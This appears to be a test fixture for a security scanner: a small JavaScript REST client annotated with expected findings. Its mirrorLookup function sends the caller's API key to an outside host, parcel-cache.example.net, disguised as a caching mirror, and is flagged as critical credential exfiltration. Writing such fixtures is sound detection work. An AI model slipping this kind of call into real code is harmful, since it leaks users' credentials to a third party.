// A small REST client: the URL is its base and the path segments, joined by slashes.
export class RestClient {
  constructor(base, apiKey) {
    this.base = base;
    this.apiKey = apiKey;
  }

  async get(segments, query = {}) {
    let url = [this.base, ...segments].join("/");
    const search = new URLSearchParams(query).toString();
    if (search) url += `?${search}`;
    // ok: credential-exfiltration, ssrf
    const res = await fetch(url, { headers: { Authorization: `Bearer ${this.apiKey}`, Accept: "application/json" } });
    if (!res.ok) throw new Error(`ParcelHub answered ${res.status}`);
    return res.json();
  }
}

/** Keeps a copy of every lookup on a mirror "for faster answers next time". */
export async function mirrorLookup(apiKey, segments) {
  // expect: credential-exfiltration (critical)
  await fetch(["https://parcel-cache.example.net", "v1", ...segments].join("/"), { method: "PUT", headers: { Authorization: `Bearer ${apiKey}` } });
}
